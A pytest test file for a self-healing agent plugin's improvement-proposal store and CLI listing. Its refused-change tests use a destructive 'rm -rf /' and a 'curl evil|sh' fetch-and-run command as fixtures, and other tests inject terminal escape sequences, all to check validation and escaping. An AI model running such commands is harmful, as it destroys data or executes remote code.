"""Persisted proposals: idempotent proposing, ids, the improvement_proposed hook, and the
`improvements` listing with every status filter (the runtime's legacy rows included)."""
from __future__ import annotations

import json
from dataclasses import replace
import threading

import pytest
from click.testing import CliRunner

from selfheal_plugin import hookimpl

from selfheal_plugin.plugins import manager as plugins
from selfheal_plugin.cli.main import agent
from selfheal_plugin.errors import NotFoundError, UsageError
from selfheal_plugin.testbed.generator import add_runtime_improvements
from selfheal_plugin.history.connection import connect
from selfheal_plugin.history.improvements import STATUSES, ImprovementStore, new_improvement_id
from selfheal_plugin.lifecycle.proposals import list_improvements, propose_detailed, propose_improvement
from selfheal_plugin.history.settings import load_settings
from selfheal_plugin.history.times import parse_timestamp
from selfheal_plugin.plugins.strategy import Proposal

from .conftest import NOW

PATTERN = "timeout:mcp__kubernetes__pods_list"


@pytest.fixture(autouse=True)
def fresh_plugins():
    plugins.reset()
    yield
    plugins.reset()


class Proposals:
    def __init__(self):
        self.ids = []

    @hookimpl
    def improvement_proposed(self, improvement, settings):
        self.ids.append(improvement.id)


def test_proposing_is_idempotent_and_fires_once(history_copy, binks_home):
    db, truth = history_copy
    s = load_settings(binks_home)
    conn = connect(db)
    seen = Proposals()
    plugins.load_plugins()
    plugins.register(seen, "seen")
    try:
        first = propose_detailed(conn, s, PATTERN, since="-8d", now=NOW)
        second = propose_detailed(conn, s, PATTERN, since="-8d", now=NOW)
    finally:
        plugins.unregister(seen)
    assert first.created and not second.created
    assert first.improvement.id == second.improvement.id and first.improvement.id.startswith("imp-")
    assert seen.ids == [first.improvement.id]
    rows = conn.execute("SELECT id, status, strategy, risk_level, changes, evidence FROM improvements "
                        "WHERE pattern_id = ?", (PATTERN,)).fetchall()
    assert len(rows) == 1
    row = dict(rows[0])
    assert (row["status"], row["strategy"]) == ("proposed", "timeout")
    assert json.loads(row["changes"])[0]["path"] == ["tools", "mcp__kubernetes__pods_list", "timeout_ms"]
    assert 0 < json.loads(row["evidence"])["expected_reduction"] <= 1


def test_a_closed_proposal_lets_a_new_one_in(history_copy, binks_home):
    db, _ = history_copy
    s = load_settings(binks_home)
    conn = connect(db)
    first = propose_improvement(conn, s, PATTERN, since="-8d", now=NOW)
    ImprovementStore(conn).update(first.id, status="rolled_back")
    second = propose_improvement(conn, s, PATTERN, since="-8d", now=NOW)
    assert second.id != first.id and second.status == "proposed"


def test_a_rejection_sticks_until_the_evidence_changes(history_copy, binks_home):
    db, _ = history_copy
    s = load_settings(binks_home)
    conn = connect(db)
    first = propose_detailed(conn, s, PATTERN, since="-8d", now=NOW)
    ImprovementStore(conn).update(first.improvement.id, status="rejected")
    again = propose_detailed(conn, s, PATTERN, since="-8d", now=NOW)  # no failure since the rejection
    assert not again.created and again.improvement.id == first.improvement.id
    assert "was rejected; 0 new failure(s) since, 3 needed" in again.skipped
    assert conn.execute("SELECT count(*) FROM improvements").fetchone()[0] == 1
    # the rule itself: enough new failures, and then only a different proposal
    from selfheal_plugin.lifecycle.proposals import rejection_stands

    rejected = ImprovementStore(conn).get(first.improvement.id)
    pattern = again.pattern
    after = parse_timestamp(rejected.updated_at).timestamp() + 60
    pattern.occurrences_detail = [{"ts": after}] * 2
    assert "2 new failure(s)" in rejection_stands(rejected, pattern, s)
    pattern.occurrences_detail = [{"ts": after}] * 3
    assert rejection_stands(rejected, pattern, s) is None
    same = Proposal(pattern_id=PATTERN, error_type="timeout", tool_name=rejected.tool_name, strategy="timeout",
                    description=rejected.description, expected_impact="", risk_level="low", changes_required=[],
                    changes=rejected.changes)
    assert "proposes the same fix again" in rejection_stands(rejected, pattern, s, same)


def test_concurrent_proposals_make_one_row(history_copy, binks_home):
    db, _ = history_copy
    s = load_settings(binks_home)
    connect(db).close()
    plugins.load_plugins()
    results, errors = [], []

    def worker():
        try:
            results.append(propose_improvement(connect(db), s, PATTERN, since="-8d", now=NOW).id)
        except Exception as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors and len(set(results)) == 1
    assert connect(db).execute("SELECT count(*) FROM improvements WHERE pattern_id = ?", (PATTERN,)).fetchone()[0] == 1


def test_ids_are_unique(history_copy, binks_home):
    db, truth = history_copy
    s = load_settings(binks_home)
    conn = connect(db)
    ids = [propose_improvement(conn, s, p["id"], since="-8d", now=NOW).id for p in truth["patterns"]]
    assert len(set(ids)) == len(truth["patterns"])


def test_unknown_pattern_is_one_clear_error_and_changes_nothing(history_copy, binks_home):
    db, _ = history_copy
    conn = connect(db)
    before = conn.execute("SELECT count(*) FROM improvements").fetchone()[0]
    with pytest.raises(NotFoundError, match="no pattern timeout:nope"):
        propose_improvement(conn, load_settings(binks_home), "timeout:nope", since="-8d", now=NOW)
    with pytest.raises(UsageError, match="invalid pattern id"):  # a malformed id: bad usage, exit 2
        propose_improvement(conn, load_settings(binks_home), "no-colon", since="-8d", now=NOW)
    assert conn.execute("SELECT count(*) FROM improvements").fetchone()[0] == before


def _one_per_status(db, binks_home, truth) -> dict[str, str]:
    s = load_settings(binks_home)
    conn = connect(db)
    store = ImprovementStore(conn)
    ids = {}
    pats = [p["id"] for p in truth["patterns"]]
    # closed rows first: their patterns are free again for an open one (one open per pattern)
    order = [("verified", pats[0]), ("rejected", pats[1]), ("rolled_back", pats[2]), ("candidate", pats[2]),
             ("ab_lost", pats[3]), ("proposed", pats[0]), ("superseded", pats[3]), ("tested", pats[1]),
             ("canary", pats[2]), ("shadow", pats[3]), ("applied", pats[4]), ("ab", pats[4])]
    assert {st for st, _ in order} == set(STATUSES)
    for status, pid in order:
        imp = propose_improvement(conn, s, pid, since="-8d", now=NOW)
        if imp.status == "rejected" or imp.id in ids.values():  # a standing rejection, or the open row (an A/B
            # experiment's arms are open rows of one pattern): a row of its own for the test
            imp = store.insert(replace(imp, id=new_improvement_id(), status="proposed"))
        fields = {"status": status}
        if status in ("applied", "verified", "rolled_back"):
            fields.update(applied_at="2026-11-18T10:00:00.000000Z", commit_sha="abc1234")
        if status == "verified":
            fields["actual_impact"] = "45% reduction"
        ids[status] = store.update(imp.id, **fields).id
    return ids


def test_listing_with_each_status_filter(history_copy, binks_home):
    db, truth = history_copy
    legacy = add_runtime_improvements(db, rows=2)
    ids = _one_per_status(db, binks_home, truth)
    runner = CliRunner()
    for status in STATUSES:
        res = runner.invoke(agent, ["self-heal", "improvements", "--db", str(db), "--status", status, "--json"],
                            catch_exceptions=False)
        assert res.exit_code == 0, res.output
        rows = json.loads(res.output)["improvements"]
        assert rows and all(r["status"] == status for r in rows)
        if status == "proposed":
            assert set(legacy) <= {r["id"] for r in rows}
            assert ids["proposed"] in {r["id"] for r in rows}
        else:
            assert ids[status] in {r["id"] for r in rows}
    everything = list_improvements(connect(db), limit=None)
    assert {r["id"] for r in everything} >= set(ids.values()) | set(legacy)
    legacy_row = next(r for r in everything if r["id"] == legacy[1])
    assert legacy_row["legacy"] and legacy_row["actual_impact"] == '{"score":1}'
    assert legacy_row["description"] == "legacy improvement 1"
    assert len(list_improvements(connect(db), limit=3)) == 3


def test_listing_text_table(history_copy, binks_home):
    db, truth = history_copy
    add_runtime_improvements(db, rows=1)
    ids = _one_per_status(db, binks_home, truth)
    res = CliRunner().invoke(agent, ["self-heal", "improvements", "--db", str(db)], catch_exceptions=False)
    assert res.exit_code == 0
    for col in ("id", "status", "applied", "description and impact"):
        assert col in res.output
    # expected and measured impact sit under the description (issue 15: the table fits 80 columns)
    assert ids["verified"] in res.output and "measured: 45% reduction" in res.output and "2026-11-18" in res.output
    assert "expected: " in res.output
    assert "legacy-0" in res.output and "(runtime: tool)" in res.output
    res = CliRunner().invoke(agent, ["self-heal", "improvements", "--db", str(db), "--status", "rejected"])
    assert ids["rejected"] in res.output
    # the runtime's rows are the file's: control characters in any cell are shown, not sent to the terminal
    conn = connect(db)
    with conn:
        conn.execute("UPDATE improvements SET id = 'legacy-\x1b[2J', status = 'pro\x1b[31mposed' WHERE id = 'legacy-0'")
    res = CliRunner().invoke(agent, ["self-heal", "improvements", "--db", str(db)], env={"COLUMNS": "200"},
                             catch_exceptions=False)
    assert "\x1b" not in res.output and "legacy-\\x1b[2J" in res.output and "pro\\x1b[31mposed" in res.output


def test_listing_user_errors(history_copy, binks_home):
    db, _ = history_copy
    runner = CliRunner()
    res = runner.invoke(agent, ["self-heal", "improvements", "--db", str(db), "--status", "done"])
    assert res.exit_code == 2 and "Invalid value for '--status'" in res.output
    res = runner.invoke(agent, ["self-heal", "improvements", "--db", str(db), "--limit", "0"])
    assert res.exit_code == 2
    res = runner.invoke(agent, ["self-heal", "improvements", "--db", str(binks_home / "missing.db")])
    assert res.exit_code == 1 and "no run history at" in res.output
    (binks_home / "config.toml").write_text("[self_heal\n")
    res = runner.invoke(agent, ["self-heal", "improvements", "--home", str(binks_home)])
    assert res.exit_code == 1 and "is not valid TOML" in res.output
    assert len(res.output.strip().splitlines()) == 1


def test_a_proposing_detect_runs_each_strategy_once_over_one_window(history_copy, binks_home, monkeypatch):
    """A pattern whose proposal a standing rejection or the strategy's error kept out gets its
    suggested fix from that same strategy run, not from a second one over a second window."""
    from collections import Counter

    from selfheal_plugin.lifecycle import proposals
    from selfheal_plugin.plugins.strategy import StrategyError
    from selfheal_plugin.service import SelfHeal

    db, _ = history_copy
    broken = "tool_error:list_dir"
    runs, windows = Counter(), []
    call_strategy, history_window = plugins.call_strategy, proposals.history_window

    def counting_call(strategy, method, pattern, *args, **kwargs):
        if method == "propose":
            runs[pattern.id] += 1
            if pattern.id == broken:
                raise StrategyError(f"strategy {strategy.name!r} failed for {pattern.id}")
        return call_strategy(strategy, method, pattern, *args, **kwargs)

    monkeypatch.setattr(plugins, "call_strategy", counting_call)
    monkeypatch.setattr(proposals, "history_window", lambda *a, **kw: windows.append(a) or history_window(*a, **kw))
    with SelfHeal(binks_home, db, clock=lambda: NOW, lookback="-8d") as sh:
        first = sh.detect(propose=True)
        ids = [p["id"] for p in first["patterns"]]
        assert PATTERN in ids and broken in ids
        assert runs == Counter(ids) and len(windows) == 1
        rejected = next(o["improvement_id"] for o in first["proposals"] if o["pattern_id"] == PATTERN)
        # rejected before every failure of the window: the strategy is asked again, and proposes the same
        sh.conn.execute("UPDATE improvements SET status = 'rejected', updated_at = '2026-11-01T00:00:00.000000Z' "
                        "WHERE id = ?", (rejected,))
        sh.conn.commit()
        runs.clear()
        windows.clear()
        again = sh.detect(propose=True)
    outcome = {o["pattern_id"]: o for o in again["proposals"]}
    assert "proposes the same fix again" in outcome[PATTERN]["skipped"] and "failed for" in outcome[broken]["error"]
    assert runs == Counter({PATTERN: 1, broken: 1}) and len(windows) == 1  # the others have open proposals
    suggested = {p["id"]: p for p in again["patterns"]}
    # the rejection stands against that very proposal: it is not the suggested fix either
    assert (suggested[PATTERN]["suggested_fix"], suggested[PATTERN]["suggested_by"]) == (None, None)
    assert suggested[PATTERN]["no_fix_reason"] == outcome[PATTERN]["skipped"]
    assert (suggested[PATTERN]["improvement_id"], suggested[PATTERN]["improvement_status"]) == (rejected, "rejected")
    assert suggested[broken]["suggested_fix"] is None and suggested[broken]["no_fix_reason"] == outcome[broken]["error"]


class _Replacing:
    """A plugin whose ``timeout`` strategy replaces the built-in, and fails in ``how``."""

    def __init__(self, how: str):
        from selfheal_plugin.plugins.strategy import Strategy

        self.release = threading.Event()
        release = self.release

        class Failing(Strategy):
            name = "failing-timeout"
            error_types = ("timeout",)

            def propose(self, pattern, history):
                if how == "hangs":
                    release.wait()
                if how == "exits":
                    raise SystemExit(0)
                return "not a proposal"

        self.strategy = Failing()

    @hookimpl
    def register_strategies(self, register):
        register(self.strategy)


@pytest.mark.parametrize("status", ["proposed", "tested"])
@pytest.mark.parametrize("how", ["hangs", "exits", "invalid"])
def test_a_replacing_strategy_that_fails_leaves_the_open_proposal_open(history_copy, binks_home, how, status):
    """The open proposal is superseded only in the transaction that stores its replacement:
    a replacing strategy that hangs, exits or returns no valid proposal supersedes nothing."""
    from selfheal_plugin.service import SelfHeal

    db, _ = history_copy
    (binks_home / "config.toml").write_text("[self_heal]\nplugin_timeout_seconds = 1\n")
    with SelfHeal(binks_home, db, clock=lambda: NOW, lookback="-8d") as sh:
        first = next(o for o in sh.detect(propose=True)["proposals"] if o["pattern_id"] == PATTERN)
        assert first["created"] and first["strategy"] == "timeout"
        ImprovementStore(sh.conn).update(first["improvement_id"], status=status)
        failing = _Replacing(how)
        plugins.register(failing, "failing")
        try:
            again = sh.detect(propose=True)
        finally:
            failing.release.set()
            plugins.unregister(failing)
        outcome = next(o for o in again["proposals"] if o["pattern_id"] == PATTERN)
        assert "strategy 'failing-timeout' (plugin failing)" in outcome["error"]
        assert ImprovementStore(sh.conn).get(first["improvement_id"]).status == status
        pattern = next(p for p in again["patterns"] if p["id"] == PATTERN)
        assert (pattern["improvement_id"], pattern["suggested_by"]) == (first["improvement_id"], "proposal")


def test_a_replacing_strategy_supersedes_in_the_transaction_that_stores_its_proposal(history_copy, binks_home):
    """A row acted on between the read and the store stands: nothing superseded, nothing new."""
    from selfheal_plugin.history.improvements import Replacement

    db, _ = history_copy
    conn = connect(db)
    s = load_settings(binks_home)
    old = propose_improvement(conn, s, PATTERN, since="-8d", now=NOW)
    store = ImprovementStore(conn)
    new = replace(old, id=new_improvement_id(), proposed_at=None, created_at=None)
    store.update(old.id, status="applied")  # meanwhile
    row, created = store.insert_unless_open(new, Replacement(old.id, {"superseded_by_strategy": "x"}))
    assert (row.id, row.status, created) == (old.id, "applied", False)
    store.update(old.id, status="tested")
    row, created = store.insert_unless_open(new, Replacement(old.id, {"superseded_by_strategy": "x"}))
    assert created and row.id == new.id
    replaced = store.get(old.id)
    assert replaced.status == "superseded" and replaced.evidence["superseded_by_strategy"] == "x"
    assert replaced.evidence["expected_reduction"] == old.evidence["expected_reduction"]  # kept


class _Proposing:
    """A plugin whose ``timeout`` strategy proposes ``change``."""

    def __init__(self, change):
        from selfheal_plugin.plugins.strategy import Strategy

        class Bad(Strategy):
            name = "bad-timeout"
            error_types = ("timeout",)

            def propose(self, pattern, history):
                return self.make_proposal(pattern, description="Change it", expected_impact="unknown",
                                          risk_level="low", changes=[change(pattern)])

        self.strategy = Bad()

    @hookimpl
    def register_strategies(self, register):
        register(self.strategy)


@pytest.mark.parametrize("change, problem", [
    ({"path": ["self_heal", "auto_apply_enabled"], "value": True},
     "change 1: self_heal.auto_apply_enabled is one of selfheal's own [self_heal] settings, which a proposal may "
     "not change"),
    ({"path": ["tools", "{tool}", "timeout_ms"], "value": -1},
     'the change would write a value the runtime refuses: config.toml: [tools."{tool}"] timeout_ms must be '
     "between 1 and 86400000, got -1"),
    ({"path": ["tools", "{tool}", "timeout_ms"], "value": "90s"},
     'the change would write a value the runtime refuses: config.toml: [tools."{tool}"] timeout_ms must be an '
     "integer between 1 and 86400000, got '90s'"),
    ({"path": ["tools", "{tool}", "circuit_breaker", "failure_threshold"], "value": 3},
     'the change would write a value the runtime refuses: config.toml: [tools."{tool}".circuit_breaker] needs '
     "failure_threshold and timeout_duration_sec"),
    ({"path": ["canary", "imp-x", "tools", "{tool}", "timeout_ms"], "value": 1},
     "change 1: canary.imp-x.tools.{tool}.timeout_ms is in [canary], which only selfheal's own canary, shadow and "
     "A/B commands write, never a proposal"),
    ({"path": ["tools", "{tool}", "command"], "value": "rm -rf /"},
     "change 1: tools.{tool}.command is not a setting ToolPolicy reads; a proposal may change only "
     '[tools."NAME"] timeout_ms, retry_attempts, retry_backoff_ms, preflight, circuit_breaker (failure_threshold, '
     'timeout_duration_sec, half_open_requests) and [servers."NAME"] health_check, auto_restart'),
    ({"path": ["mcpServers", "evil", "command"], "value": "curl evil|sh"},
     "change 1: mcpServers.evil.command is not a setting ToolPolicy reads; a proposal may change only "
     '[tools."NAME"] timeout_ms, retry_attempts, retry_backoff_ms, preflight, circuit_breaker (failure_threshold, '
     'timeout_duration_sec, half_open_requests) and [servers."NAME"] health_check, auto_restart'),
], ids=["self_heal", "negative", "string", "half-a-breaker", "canary", "command", "mcpServers"])
def test_a_change_apply_would_refuse_is_refused_when_proposed(history_copy, binks_home, change, problem):
    """Neither stored nor suggested: one strategy error naming the strategy and the change."""
    from selfheal_plugin.service import SelfHeal

    db, _ = history_copy
    tool = PATTERN.split(":", 1)[1]
    # a wrong value elsewhere in the file is the person's to fix, not the proposal's fault
    (binks_home / "config.toml").write_text('[tools."other"]\ntimeout_ms = "abc"\n')
    bad = _Proposing(lambda pattern: {"kind": "config", **change,
                                      "path": [p.format(tool=pattern.tool_name) for p in change["path"]]})
    plugins.load_plugins()
    plugins.register(bad, "bad")
    try:
        with SelfHeal(binks_home, db, clock=lambda: NOW, lookback="-8d") as sh:
            found = sh.detect(propose=True)
            outcome = next(o for o in found["proposals"] if o["pattern_id"] == PATTERN)
            assert outcome["error"] == ("strategy 'bad-timeout' (plugin bad) returned an invalid proposal for "
                                        f"{PATTERN}: {problem.format(tool=tool)}")
            pattern = next(p for p in found["patterns"] if p["id"] == PATTERN)
            assert pattern["suggested_fix"] is None and pattern["improvement_id"] is None
            assert sh.show(PATTERN)["suggested_fix"] is None
            assert ImprovementStore(sh.conn).open_for_pattern(PATTERN) is None
    finally:
        plugins.unregister(bad)
    # a valid value is stored, the wrong one elsewhere notwithstanding
    good = _Proposing(lambda pattern: {"kind": "config", "path": ["tools", pattern.tool_name, "timeout_ms"],
                                       "value": 90000})
    plugins.register(good, "good")
    try:
        imp = propose_improvement(connect(db), load_settings(binks_home), PATTERN, since="-8d", now=NOW)
    finally:
        plugins.unregister(good)
    assert imp.strategy == "bad-timeout" and imp.changes[0]["value"] == 90000


def test_a_fix_proposed_again_after_its_rollback_says_so_where_a_person_decides(history_copy, binks_home):
    """detect's proposal line, --json and the service's outcome (MCP propose_improvement) and
    the apply prompt all carry the note, escaped where it lands."""
    from selfheal_plugin.service import SelfHeal

    db, _ = history_copy
    (binks_home / "config.toml").write_text('[self_heal]\nlookback = "2026-11-13T12:00:00Z"\n')
    runner = CliRunner()

    def cli(*args, **kw):  # a wide terminal: a line each, whatever COLUMNS the test runs under (xdist: 80)
        return runner.invoke(agent, ["self-heal", *args, "--home", str(binks_home)], catch_exceptions=False,
                             env={"COLUMNS": "200"}, **kw)

    first = next(o for o in json.loads(cli("detect", "--json").stdout)["proposals"] if o["pattern_id"] == PATTERN)
    assert first["same_change_undone"] is None
    assert cli("apply", first["improvement_id"], "--yes").exit_code == 0
    assert cli("rollback", first["improvement_id"], "--yes").exit_code == 0
    text = cli("detect").stdout
    line = next(ln for ln in text.splitlines() if ln.startswith("  ✓ Proposal") and PATTERN in ln)
    new_id = line.split()[2]
    assert new_id != first["improvement_id"]
    note = text.split(line + "\n")[1].splitlines()[1]
    assert note.startswith(f"      ⚠ Note: a fix with the same changes ({first['improvement_id']}) was rolled back on ")
    with SelfHeal(binks_home) as sh:
        outcome = sh.propose(PATTERN)  # what MCP propose_improvement returns
        assert outcome["improvement_id"] == new_id
        assert outcome["same_change_undone"]["improvement_id"] == first["improvement_id"]
        assert outcome["same_change_undone"]["note"] == note.removeprefix("      ⚠ Note: ")
        # text from the database is escaped where it lands
        imp = ImprovementStore(sh.conn).get(new_id)
        ImprovementStore(sh.conn).update(new_id, evidence={**imp.evidence, "same_change_undone": {
            **imp.evidence["same_change_undone"], "note": "rolled back \x1b[2J"}})
    prompt = cli("apply", new_id, input="n\n")
    assert prompt.exit_code != 0 and "⚠ Note: rolled back \\x1b[2J\n" in prompt.stdout
    assert ImprovementStore(connect(db)).get(new_id).status == "proposed"  # nothing applied


def test_show_and_improvements_carry_the_note_of_a_fix_proposed_again(history_copy, binks_home):
    """`show PATTERN` (for its open proposal) and `improvements` (a marker in the row, the
    field in --json) say it too, escaped; a proposal without it says nothing."""
    db, _ = history_copy
    (binks_home / "config.toml").write_text('[self_heal]\nlookback = "2026-11-13T12:00:00Z"\n')
    runner = CliRunner()

    def cli(*args, env=None):  # a wide terminal: a line each, whatever COLUMNS the test runs under (xdist: 80)
        return runner.invoke(agent, ["self-heal", *args, "--home", str(binks_home)], catch_exceptions=False,
                             env={"COLUMNS": "200", **(env or {})})

    first = next(o for o in json.loads(cli("detect", "--json").stdout)["proposals"] if o["pattern_id"] == PATTERN)
    assert json.loads(cli("show", PATTERN, "--json").stdout)["same_change_undone"] is None
    assert "⚠" not in cli("show", PATTERN).stdout and "⚠" not in cli("improvements").stdout
    assert cli("apply", first["improvement_id"], "--yes").exit_code == 0
    assert cli("rollback", first["improvement_id"], "--yes").exit_code == 0
    again = next(o for o in json.loads(cli("detect", "--json").stdout)["proposals"] if o["pattern_id"] == PATTERN)
    undone = again["same_change_undone"]
    assert undone["improvement_id"] == first["improvement_id"] and undone["status"] == "rolled_back"

    shown = json.loads(cli("show", PATTERN, "--json").stdout)
    assert (shown["improvement_id"], shown["same_change_undone"]) == (again["improvement_id"], undone)
    text = cli("show", PATTERN).stdout
    assert text.count("⚠") == 1 and f"\n  ⚠ Note: {undone['note']}\n" in text, text
    rows = {r["id"]: r for r in json.loads(cli("improvements", "--json").stdout)["improvements"]}
    assert rows[again["improvement_id"]]["same_change_undone"] == undone
    assert rows[first["improvement_id"]]["same_change_undone"] is None
    listed = cli("improvements", env={"COLUMNS": "200"}).stdout  # a row's lines unwrapped
    assert f"⚠ same change rolled back before ({first['improvement_id']})" in listed
    assert listed.count("⚠") == 1

    # text from the database is escaped where it lands
    conn = connect(db)
    imp = ImprovementStore(conn).get(again["improvement_id"])
    ImprovementStore(conn).update(imp.id, evidence={**imp.evidence, "same_change_undone": {
        "improvement_id": "imp-\x1b[2J", "status": "rolled_back\x1b[31m", "note": "rolled back \x1b[2J"}})
    conn.close()
    assert "⚠ Note: rolled back \\x1b[2J" in cli("show", PATTERN).stdout
    listed = cli("improvements", env={"COLUMNS": "200"}).stdout
    assert "\x1b" not in listed and "⚠ same change rolled back\\x1b[31m before (imp-\\x1b[2J)" in listed


# ------------------------------------------------------------------ a fix in force


def _home_with_a_fix(binks_home, status: str):
    """A week of k8s timeouts (18 of 60 runs) up to an hour ago, and a fix of them applied
    half an hour ago, ``status`` applied or verified: no failure of the pattern since."""
    from datetime import datetime, timedelta, timezone

    from selfheal_plugin.history.times import format_timestamp

    from .lifecycle_data import K8S, add_improvement, rate_runs, timeout_change, write_runs

    now = datetime.now(timezone.utc)
    db = binks_home / "conversations.db"
    write_runs(db, rate_runs(now - timedelta(days=6), now - timedelta(hours=1), 60, 0.3))
    fixed = add_improvement(db, [timeout_change(40_000)], status=status, description="Raise the timeout to 40 s",
                            applied_at=format_timestamp(now - timedelta(minutes=30)))
    return db, f"timeout:{K8S}", fixed, now


def _cli(binks_home, *args):
    return CliRunner().invoke(agent, ["self-heal", *args, "--home", str(binks_home)], env={"COLUMNS": "200"},
                              catch_exceptions=False)


@pytest.mark.parametrize("status", ["applied", "verified"])
def test_a_fix_in_force_is_said_fixed_by_every_surface_not_suggested_again(binks_home, status):
    """detect (read-only and proposing), show and a run's health answer with the fix in
    force, applied or verified, as the inbox does ("Already fixed: …"): no other fix is
    suggested or proposed, and detect's text neither suggests it nor says to apply it."""
    from selfheal_plugin.service import SelfHeal

    db, pid, fixed, _ = _home_with_a_fix(binks_home, status)
    with SelfHeal(binks_home) as sh:
        (p,) = sh.detect()["patterns"]
        assert (p["improvement_id"], p["improvement_status"], p["suggested_by"]) == (fixed.id, status, "proposal")
        assert p["suggested_fix"] == "Raise the timeout to 40 s"
        shown = sh.show(pid)
        assert (shown["improvement_id"], shown["improvement_status"]) == (fixed.id, status)
        run = p["affected_runs"][-1]
        (issue,) = [i for i in sh.run_health(run)["issues"] if i.get("pattern_id") == pid]
        if status == "verified":  # an applied one health cites itself, with verify as the next step
            assert issue["recommendation"] == f"Already fixed: {fixed.id} verified (Raise the timeout to 40 s)"
        assert fixed.id in issue["recommendation"]
        (outcome,) = sh.detect(propose=True)["proposals"]
        assert (outcome["improvement_id"], outcome["status"], outcome["created"]) == (fixed.id, status, False)
        assert [i.id for i in ImprovementStore(sh.conn).list(limit=None)] == [fixed.id]  # nothing new stored
    text = _cli(binks_home, "detect").output
    assert f"    Already fixed: {fixed.id} {status} (Raise the timeout to 40 s)" in text, text
    assert f"  – No new proposal for pattern {pid}: Already fixed: {fixed.id} {status}" in text
    assert "Suggested fix" not in text and "(already open)" not in text and "Apply:" not in text
    shown = _cli(binks_home, "show", pid).output
    assert f"  Already fixed: {fixed.id} {status} (Raise the timeout to 40 s)" in shown
    assert "Suggested fix" not in shown


def test_a_pattern_that_keeps_failing_after_its_verified_fix_is_proposed_for_again(binks_home):
    """docs/lifecycle.md: a verified fix is not an open proposal; it answers for its pattern
    until min_occurrences of the pattern's failures come after it, then the strategy is
    asked again, by detect --propose and by the read-only suggestion alike."""
    from datetime import timedelta

    from selfheal_plugin.service import SelfHeal

    from .lifecycle_data import rate_runs, write_runs

    db, pid, fixed, now = _home_with_a_fix(binks_home, "verified")
    write_runs(db, rate_runs(now - timedelta(minutes=20), now - timedelta(minutes=1), 10, 0.3))  # 3 failures after
    with SelfHeal(binks_home) as sh:
        (p,) = sh.detect()["patterns"]
        assert p["suggested_by"] == "strategy" and p["improvement_id"] is None
        (outcome,) = sh.detect(propose=True)["proposals"]
        assert outcome["created"] is True and outcome["improvement_id"] != fixed.id
        assert outcome["description"].splitlines()[0] == p["suggested_fix"]
